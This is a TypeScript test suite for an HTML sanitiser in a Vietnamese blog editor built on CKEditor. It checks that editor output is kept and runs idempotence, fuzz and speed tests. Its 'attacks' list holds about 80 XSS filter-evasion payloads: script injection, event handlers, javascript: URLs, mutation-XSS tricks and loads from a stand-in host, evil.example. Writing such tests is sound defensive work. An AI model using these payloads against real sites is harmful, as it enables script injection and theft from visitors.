import { sanitisePostContent } from './post-content.js';

/** What CKEditor 5 writes for everything the toolbar offers (F130, F131, C37c). */
const editorHtml: Record<string, string> = {
  'block formats': '<p>Tin</p><h1>Một</h1><h2>Hai</h2><h3>Ba</h3><pre>dòng 1<br>dòng 2</pre>',
  marks:
    '<p><strong>đậm</strong> <i>nghiêng</i> <em>nhấn</em> <u>gạch</u> <s>bỏ</s> <sub>2</sub><sup>3</sup></p>',
  'signs and blanks': '<p>a &lt; b &amp;&amp; c &gt; d "trích" \'đơn\'&nbsp;&nbsp;hết</p><p>&nbsp;</p>',
  'written entities': '<p>&amp;lt;b&amp;gt; &amp;nbsp; &amp;amp;</p>',
  alignment: '<p style="text-align:center;">Giữa</p><p style="margin-left:40px;">Thụt</p>',
  links:
    '<p><a href="https://example.com/a?b=1&amp;c=2#d">ngoài</a> <a href="/blogs">trong</a> <a href="#muc">mục</a> ' +
    '<a href="mailto:a@tiem.example">thư</a> <a href="tel:19001234">gọi</a></p>',
  'links in a new tab':
    '<p><a target="_blank" rel="noopener noreferrer" href="https://example.com">mới</a></p>',
  lists:
    '<ul><li>Một<ul style="list-style-type:circle;"><li>Trong</li></ul></li><li>Hai</li></ul>' +
    '<ol style="list-style-type:lower-alpha;" start="3" reversed="reversed"><li><p>a</p><p>b</p></li></ol>' +
    '<ul><li class="ck-list-marker-bold"><strong>đậm</strong></li></ul>',
  'a block quote and a line': '<blockquote><p>Trích</p></blockquote><hr><p>Sau</p>',
  'a code block':
    '<pre><code class="language-typescript">if (a &lt; b) {\n  c();\n}</code></pre><p><code>npm</code></p>',
  'a table':
    '<figure class="table" style="width:80%;"><table class="ck-table-resized"><colgroup><col style="width:30%;">' +
    '<col style="width:70%;"></colgroup><thead><tr><th scope="col" colspan="2">Đầu</th></tr></thead><tbody><tr>' +
    '<td style="height:40px;text-align:right;vertical-align:top;" rowspan="2">1</td><td>2</td></tr><tr><td>3</td></tr>' +
    '</tbody></table><figcaption>Bảng giá</figcaption></figure>',
  'a floating table':
    '<figure class="table table-style-align-left" style="float:left;"><table><tbody><tr><td>1</td></tr></tbody></table></figure>',
  'a block picture':
    '<figure class="image image_resized image-style-side" style="width:50%;"><img style="aspect-ratio:1600/900;" ' +
    'src="/api/files/resources/a.jpg" alt="Phở &quot;bò&quot;" width="1600" height="900" ' +
    'srcset="/api/files/resources/a.jpg?w=480 480w, /api/files/resources/a.jpg?w=960 960w" sizes="100vw">' +
    '<figcaption>Phở</figcaption></figure>',
  'a linked picture without words':
    '<figure class="image"><a href="/blogs"><img src="/api/files/resources/a.jpg" alt=""></a></figure>',
  'a picture in a line':
    '<p>a<img class="image_resized image-style-align-right" style="aspect-ratio:4/3;width:12.5%;" src="/api/files/resources/a.jpg" width="4" height="3">b</p>',
  'a video with its preview':
    '<figure class="media media_resized" style="width:640px;"><div data-oembed-url="https://www.youtube.com/watch?v=abcdefghijk">' +
    '<div style="position: relative; padding-bottom: 100%; height: 0; padding-bottom: 56.2493%;"><iframe src="https://www.youtube.com/embed/abcdefghijk" ' +
    'style="position: absolute; width: 100%; height: 100%; top: 0; left: 0;" frameborder="0" allow="autoplay; encrypted-media" ' +
    'allowfullscreen=""></iframe></div></div></figure>',
  'a video as CKEditor 48 writes it':
    '<figure class="media"><div data-oembed-url="https://vimeo.com/1084537"><div><iframe src="https://player.vimeo.com/video/1084537" ' +
    'width="1280" height="720" style="width: 100%; height: auto; aspect-ratio: 16 / 9; border: 0; display: block;" frameborder="0" ' +
    'allow="autoplay; encrypted-media" referrerpolicy="strict-origin-when-cross-origin" webkitallowfullscreen="" mozallowfullscreen="" ' +
    'allowfullscreen=""></iframe></div></div></figure>',
  'words of other scripts': '<p>Tiệm phở Ủy Ban 🍜 新年 العربية ≯ ≠</p>',
};

describe('sanitisePostContent keeps what the editor makes (C37c, F130, F131)', () => {
  it.each(Object.entries(editorHtml))('%s, byte for byte', (_name, html) => {
    expect(sanitisePostContent(html)).toBe(html);
  });

  it.each([426, 640, 854, 1280, 1920])('a video %i pixels wide', (width) => {
    const html = `<figure class="media media_resized" style="width:${width}px;"><p>x</p></figure>`;
    expect(sanitisePostContent(html)).toBe(html);
  });

  it.each([
    'https://player.vimeo.com/video/1',
    'https://www.dailymotion.com/embed/video/x1',
    'https://www.youtube-nocookie.com/embed/a',
  ])('a video of %s', (address) =>
    expect(sanitisePostContent(`<iframe src="${address}"></iframe>`)).toBe(
      `<iframe src="${address}"></iframe>`,
    ),
  );
});

/** One vector a category of the OWASP cheat sheet on filter evasion, and what is known to have fooled sanitisers. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.jpg"onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img src=javascript:alert(1)>',
  '<img src="jav\tascript:alert(1)">',
  '<img src="jav&#x0A;ascript:alert(1)">',
  '<img src=" &#14; javascript:alert(1)">',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<a onmouseover="alert(1)" href="/x">x</a>',
  '<a href="/x" target="_top" rel="opener">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/a"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
  '<iframe src="http://www.youtube.com/embed/a"></iframe>',
  '<iframe src="/dashboard"></iframe>',
  '<iframe src="https://www.youtube.com/embed/a" onload="alert(1)" srcdoc="<script>alert(1)</script>"><img src=x onerror=alert(1)></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="width:10px;/*;position:fixed;*/inset:0">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<div style="position:absolute">x</div>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="image" src="javascript:alert(1)" autofocus onfocus=alert(1)>',
  '<body onload=alert(1) background="javascript:alert(1)">',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onclick=alert(1) id="x" name="y" data-x="z" contenteditable>x</p>',
  '<p class="fixed inset-0 modal">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<p/onclick=alert(1)//',
  '</p><p onclick="alert(1)"',
  '<a href="/x\u201d onclick=alert(1)">x</a>',
  '<img src="/a.jpg">&#824; onerror=alert(1) <b>x</b>',
  '<p>&#824; onclick=alert(1) <b>x</b></p>',
  '<p>\u0338 onclick=alert(1) <b>x</b></p>',
  '<img src="/a.jpg" alt="&quot; onerror=&quot;alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** What a browser would find in the output: a tag ends at the first `>` outside its quoted values. */
const tag = /<(\/?)([^\s/>]+)((?:[^>"]|"[^"]*")*)>/g;
const attribute = /\s([^\s=]+)(?:="([^"]*)")?/g;

describe('sanitisePostContent leaves nothing that acts (C37c)', () => {
  it.each(attacks)('%s', (html) => {
    const clean = sanitisePostContent(html);
    expect(clean).toBe(clean.normalize('NFC'));
    for (const [, , name, attributes] of clean.matchAll(tag)) {
      expect(name).toMatch(/^(p|div|a|b|img|iframe|table)$/);
      for (const [, attributeName, value = ''] of attributes!.matchAll(attribute)) {
        expect(attributeName).toMatch(/^(href|src|alt|style|rel|target)$/);
        if (attributeName === 'href' || attributeName === 'src')
          expect(value).toMatch(/^(\/(?![/\\])|[a-z]+\.|x|`|https:\/\/www\.youtube\.com\/embed\/a$)/);
        if (attributeName === 'style') expect(value).not.toMatch(/fixed|absolute|url|expression|inset|\*/);
      }
    }
    expect(clean.replaceAll(tag, '')).not.toMatch(/[<>]/);
  });

  it('keeps the text of what goes', () => {
    expect(sanitisePostContent('<section><h5>Tiêu đề</h5><font color="red">đỏ</font></section>')).toBe(
      'Tiêu đềđỏ',
    );
  });

  it('drops declarations that are not allowed and keeps the others as they were written', () => {
    expect(
      sanitisePostContent('<p style="color:red; width: 50% ;position:fixed;text-align:left;">x</p>'),
    ).toBe('<p style=" width: 50% ;text-align:left;">x</p>');
    expect(sanitisePostContent('<p style="color:red;;">x</p>')).toBe('<p>x</p>');
  });

  it('keeps a tag and the stroke behind it apart, which NFC would join', () => {
    expect(sanitisePostContent('<p>&#824; chữ</p>')).toBe('<p>&#824; chữ</p>');
  });

  it('composes letters, also those written as entities (C22e)', () => {
    expect(sanitisePostContent('<p>Tie&#803;&#770;m \u0065\u0302</p>')).toBe('<p>Tiệm ê</p>');
  });
});

describe('sanitisePostContent changes nothing the second time (C37c)', () => {
  const all = [...Object.values(editorHtml), ...attacks];

  it.each(all)('%s', (html) => {
    const clean = sanitisePostContent(html);
    expect(sanitisePostContent(clean)).toBe(clean);
  });

  it('whatever pieces are thrown together', () => {
    const pieces = [
      '<p>',
      '</p>',
      '<li>',
      '</li>',
      '<ul>',
      '<article>',
      '</article>',
      '<table>',
      '<tr>',
      '<td>',
      '</table>',
      '<iframe src="https://www.youtube.com/embed/a">',
      '<iframe>',
      '</iframe>',
      '<noscript>',
      '</noscript>',
      '<pre>',
      '\n',
      '<b',
      ' alt="',
      '"',
      '>',
      '<',
      '&lt;',
      '&amp;',
      '&#824;',
      '\u0338',
      '\u0301',
      'e',
      '&nbsp;',
      '<h1>',
      '<a href="/x">',
      '</a>',
      '<svg>',
      '<style>',
      '</style>',
      '<textarea>',
      '</textarea>',
      '<!--',
      '-->',
      '<img src="/a.jpg">',
      '<section>',
      '</section>',
      '<option>',
      '<dd>',
      '<button>',
      '<form>',
      '</form>',
    ];
    // A fixed sequence, so that a failure can be repeated.
    let seed = 11;
    const next = () => (seed = (seed * 48_271) % 2_147_483_647);
    for (let round = 0; round < 3000; round++) {
      const html = Array.from({ length: 1 + (next() % 14) }, () => pieces[next() % pieces.length]).join('');
      const clean = sanitisePostContent(html);
      expect({ html, again: sanitisePostContent(clean) }).toEqual({ html, again: clean });
    }
  });
});

describe('sanitisePostContent is quick (C22e)', () => {
  it.each([
    [
      'an article of the largest size',
      '<p>Mỗi ngày <strong>ghi lại</strong> món bán chạy.</p>'.repeat(20_000),
    ],
    ['frames within frames', '<iframe>'.repeat(100_000)],
    ['signs without meaning', '<'.repeat(500_000)],
  ])('with %s', (_name, html) => {
    const start = performance.now();
    sanitisePostContent(html);
    expect(performance.now() - start).toBeLessThan(3000);
  });

  it.each(['<b>', '<article>', '<table><tr><td>', '<iframe src="/x"></iframe><ul><li>'])(
    'refuses %s without end instead of taking seconds',
    (tags) => {
      expect(() => sanitisePostContent(tags.repeat(300_000 / tags.length))).toThrow(
        'Nội dung bài viết lồng quá nhiều lớp',
      );
      expect(sanitisePostContent(tags.repeat(20) + 'chữ')).toContain('chữ');
    },
  );
});
